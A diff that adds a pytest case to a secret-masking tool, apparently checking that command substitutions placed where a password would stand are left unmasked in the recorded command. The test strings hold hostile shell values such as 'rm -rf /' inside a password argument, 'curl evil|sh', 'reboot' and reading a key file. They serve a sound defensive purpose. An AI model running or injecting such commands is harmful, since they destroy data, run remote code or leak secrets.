@@ -266,3 +266,24 @@ def test_a_replacement_is_quoted_as_the_text_around_it() -> None:
     assert SECRET not in recorded
     assert shlex.split(recorded)[0] == "mysql" and shlex.split(recorded)[-1] == "app"
     assert len(shlex.split(recorded)) == 3
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'mysql "-p$(touch /tmp/y)" db',
+        "mysql -p$(rm -rf /tmp/x) db",
+        "mysql -p`id` db",
+        "PGPASSWORD=$(curl evil|sh) psql",
+        "mysql --password=$(rm -rf /) db",
+        'sshpass -p "$(reboot)" ssh h',
+        'curl -H "Authorization: Bearer $(rm -rf /)" x',
+        "curl -u u:<(cat key) x",
+        "sh -c 'mysql \"-p$(touch /tmp/y)\"'",
+    ],
+)
+def test_a_command_where_a_secret_would_stand_is_never_masked(text: str) -> None:
+    """The shell runs `$(…)`, backquotes and `<(…)` inside a word: masking them as a password
+    would leave a command that ran out of the trail."""
+    assert Masking.of_text(text).text == text
+    assert Masking.of_argv(["sh", "-c", text]).argv == ("sh", "-c", text)
